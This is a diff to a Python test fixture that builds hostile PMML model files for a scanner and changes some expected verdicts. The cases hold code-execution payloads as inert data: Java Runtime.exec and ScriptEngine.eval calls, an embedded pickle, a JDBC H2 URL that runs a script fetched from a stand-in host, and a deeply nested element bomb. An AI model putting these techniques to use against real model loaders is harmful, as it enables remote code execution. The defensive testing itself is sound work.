@@ -63,12 +63,12 @@ def pmml_bad() -> Shelf:
     add("stylesheet", pmml(XML + '<?xml-stylesheet type="text/xsl" href="http://example.invalid/x.xsl"?>\n'), "a style sheet from outside", "not-allow")
     for id, name in (("runtime", "java.lang.Runtime.exec"), ("class", "com.example.waag.EvilFunction"), ("process", "java.lang.ProcessBuilder.start"), ("r", "x-r-system"), ("script", "javax.script.ScriptEngine.eval")):
         add(f"function-{id}", pmml(transformations=f'<DerivedField name="d" optype="continuous" dataType="double"><Apply function="{name}"><Constant dataType="string">echo waag-inert</Constant></Apply></DerivedField>'),
-            f"a Java function: {name}", "not-allow")
+            f"a Java function: {name}", "not-allow" if name.startswith("x-") else "deny")
     # Text in an extension, Java or HTML, is run by no evaluator: no case.
     for id, body in (("javascript", '<Extension name="x"><script>eval("waag-inert")</script></Extension>'), ("pickle", '<Extension name="model">gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu</Extension>')):
         add(f"extension-{id}", pmml(extension=body), f"an extension with {id}", "not-allow")
     add("table-locator", pmml(transformations='<DerivedField name="d" optype="categorical" dataType="string"><MapValues outputColumn="o"><TableLocator><Extension name="jdbc" value="jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://example.invalid\'"/></TableLocator></MapValues></DerivedField>'),
-        "a table in a database that runs a script", "not-allow")
+        "a table in a database that runs a script")
     add("tail-pickle", pmml() + inert_pickle(), "a pickle behind the model", "not-allow")
     add("truncated", pmml()[:-60], "the end is missing", "not-allow")
     add("deep", (XML + "<PMML>" + "<Extension>" * 50_000).encode(), "elements fifty thousand deep", "not-allow")
